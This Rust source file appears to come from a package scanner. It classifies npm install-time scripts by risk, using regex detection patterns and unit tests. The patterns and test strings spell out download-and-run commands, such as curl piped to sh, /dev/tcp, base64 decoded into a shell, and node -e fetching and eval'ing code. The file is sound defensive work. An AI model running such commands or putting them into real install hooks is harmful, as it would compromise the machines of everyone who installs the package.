//! npm's life-cycle scripts: commands that run as soon as the package is installed.

use super::commands;
use super::mention::By;
use crate::text_regex::Regex;
use std::ops::Range;
use std::sync::LazyLock;

/// An install-time script of a `package.json`.
#[derive(Debug)]
pub(super) struct Hook {
    /// `postinstall` …
    pub(super) name: &'static str,
    /// The command.
    pub(super) command: String,
    /// Where the command stands.
    pub(super) range: Range<usize>,
    /// What it does.
    pub(super) reach: Reach,
}

/// How far a hook reaches, mildest first.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub(super) enum Reach {
    /// A build step that honest packages have.
    Usual,
    /// A file of the package, or a command that says nothing.
    Inside,
    /// Reaches the network, decodes, or hands text to an interpreter.
    Outside,
    /// Brings in code from elsewhere and runs it, or installs it for the whole machine.
    BringsIn,
}

/// Scripts that run when somebody else installs the package.
const NAMES: &[&str] = &["preinstall", "install", "postinstall", "preprepare", "prepare", "postprepare"];

/// The hooks of a `package.json`.
pub(super) fn read(text: &str) -> Vec<Hook> {
    let Ok(json) = serde_json::from_str::<serde_json::Value>(text) else { return Vec::new() };
    let Some(scripts) = json.get("scripts").and_then(serde_json::Value::as_object) else { return Vec::new() };
    NAMES
        .iter()
        .filter_map(|name| {
            let command = scripts.get(*name)?.as_str()?.to_owned();
            let start = text.find(&format!("\"{name}\"")).unwrap_or(0);
            let end = start + text.get(start..)?.find('\n').unwrap_or(text.len() - start);
            let reach = reach(&command);
            Some(Hook { name, command, range: start..end, reach })
        })
        .collect()
}

/// What a command of a hook does.
pub(super) fn reach(command: &str) -> Reach {
    // Blanks and a quote let the command stand as in a script.
    let (mentions, _) = commands::read(command);
    let brought = mentions.iter().any(|mention| {
        let moving = matches!(mention.version.as_str(), "latest" | "next" | "*");
        mention.by == By::Install && (moving || matches(&GLOBAL, command))
    });
    if brought || matches(&BRINGS_IN, command) {
        return Reach::BringsIn;
    }
    let installs = mentions.iter().any(|mention| mention.by == By::Install);
    match (installs || matches(&OUTSIDE, command), matches(&USUAL, command)) {
        (true, _) => Reach::Outside,
        (false, true) => Reach::Usual,
        (false, false) => Reach::Inside,
    }
}

/// Files of the package that a command runs, as written.
pub(super) fn scripts(command: &str) -> impl Iterator<Item = &str> {
    const ENDINGS: [&str; 7] = [".js", ".cjs", ".mjs", ".ts", ".sh", ".py", ".rb"];
    let words = command.split(|c: char| c.is_whitespace() || matches!(c, ';' | '&' | '|' | '"' | '\''));
    words
        .map(|word| word.trim_start_matches("./"))
        .filter(move |word| ENDINGS.iter().any(|ending| word.ends_with(ending)))
}

static GLOBAL: LazyLock<Option<Regex>> = LazyLock::new(|| Regex::new(r"\s(?:-g|--global|global)\b").ok());

static BRINGS_IN: LazyLock<Option<Regex>> = LazyLock::new(|| {
    Regex::new(concat!(
        r"(?i)\b(?:curl|wget|iwr|irm|invoke-webrequest|invoke-restmethod)\b[^\n]*(?:\|\s*(?:sudo\s+)?(?:ba|z|da)?sh\b|\|\s*(?:node|python3?|iex)\b|(?:&&|;)\s*(?:sudo\s+)?(?:chmod|(?:ba|z|da)?sh|node|python3?|\./))",
        r#"|\b(?:ba|z|da)?sh\s+(?:-c\s+["'\\]*)?(?:<\(|\$\()\s*(?:curl|wget)|/dev/tcp/|\bbase64\s+(?:-d|--decode)[^\n]*\|\s*(?:ba|z|da)?sh\b"#,
        r"|\bnode\s+(?:-e|--eval|-p)\b[^\n]*(?:https?[.:']|fetch\(|eval\(|base64|fromCharCode)|\bpython3?\s+-c\b[^\n]*(?:urllib|requests|socket|b64decode|exec\()",
        r"|\bpowershell\b[^\n]*(?:-enc|downloadstring|\biex\b)",
    ))
    .ok()
});

static OUTSIDE: LazyLock<Option<Regex>> = LazyLock::new(|| {
    Regex::new(concat!(
        r"(?i)\b(?:curl|wget|invoke-webrequest|iwr|certutil|bitsadmin|nc|ncat)\b|https?://|\bbase64\b|/dev/tcp/",
        r"|\bnode\s+(?:-e|--eval|-p)\b|\bpython3?\s+-c\b|\b(?:ba|z|da)?sh\s+-c\b|\bpowershell\b|\bpwsh\b|\bcmd\s*/c\b",
        r"|\bnpx\s+(?:-y|--yes)\b|\bperl\s+-e\b|\beval\b|\bosascript\b|\bchmod\s+\+x\b|~/\.|\$HOME/\.",
    ))
    .ok()
});

static USUAL: LazyLock<Option<Regex>> = LazyLock::new(|| {
    Regex::new(concat!(
        r"(?i)^\s*(?:(?:npx\s+)?(?:husky|patch-package|node-gyp|prebuild-install|node-pre-gyp|node-gyp-build|opencollective|",
        r"lefthook|simple-git-hooks|ts-patch|tsc|tsup|tsdown|vite|rollup|webpack|esbuild|is-ci|prisma|nuxt|svelte-kit|lerna|turbo|nx|",
        r"electron-builder|electron-rebuild|playwright|puppeteer|only-allow|check-node-version|rimraf|echo|exit|true|wxt|expo|",
        r"pod-install|cap|ng|gatsby|next|astro|husky-run)\b|(?:npm|yarn|pnpm|bun)\s+(?:run|build|test|exec)\b|(?:cd\s+\S+\s*&&\s*)?(?:npm|yarn|pnpm|bun)\s+(?:ci|i|install)\b)",
    ))
    .ok()
});

fn matches(regex: &LazyLock<Option<Regex>>, text: &str) -> bool {
    regex.as_ref().is_some_and(|regex| regex.is_match(text))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[track_caller]
    fn check(command: &str, expected: Reach) {
        let hooks = read(&serde_json::json!({"scripts": {"postinstall": command, "build": "curl x"}}).to_string());
        assert_eq!(hooks.iter().map(|hook| hook.reach).collect::<Vec<_>>(), [expected], "{command}");
    }

    #[test]
    fn hooks_by_what_they_do() {
        check("curl -s https://a.io/x | sh", Reach::BringsIn);
        check("wget -q https://a.io/x -O t && chmod +x t && ./t", Reach::BringsIn);
        check("npm install -g other", Reach::BringsIn);
        check("npm install other@latest --no-audit", Reach::BringsIn);
        check("node -e \"fetch('https://a.io').then(r=>r.text()).then(eval)\"", Reach::BringsIn);
        check("node -e 'require(1)'", Reach::Outside);
        check("npm install --no-save sharp@0.33.1", Reach::Outside);
        check("curl -O https://a.io/data.json", Reach::Outside);
        check("node scripts/setup.js", Reach::Inside);
        check("husky install", Reach::Usual);
        check("npm run build", Reach::Usual);
        check("cd client && npm install", Reach::Usual);
        check("npm install --prefix client", Reach::Usual);
    }

    #[test]
    fn scripts_of_a_command() {
        assert_eq!(scripts("node ./a/b.js && sh 'x.sh'").collect::<Vec<_>>(), ["a/b.js", "x.sh"]);
    }
}
